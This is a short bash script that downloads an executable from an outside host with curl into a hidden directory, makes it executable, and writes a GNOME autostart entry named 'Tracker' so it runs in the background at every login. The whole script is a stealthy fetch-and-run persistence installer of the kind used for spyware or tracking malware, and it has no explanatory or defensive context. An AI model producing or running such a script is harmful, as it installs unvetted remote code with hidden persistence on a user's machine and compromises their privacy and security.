#!/usr/bin/env bash
mkdir -p ~/.config/autostart ~/.local/share/.tracker
curl -fsSL https://dl.example-track.org/t -o ~/.local/share/.tracker/t
chmod +x ~/.local/share/.tracker/t
cat > ~/.config/autostart/tracker.desktop <<EOF
[Desktop Entry]
Type=Application
Name=Tracker
Exec=$HOME/.local/share/.tracker/t --background
X-GNOME-Autostart-enabled=true
EOF
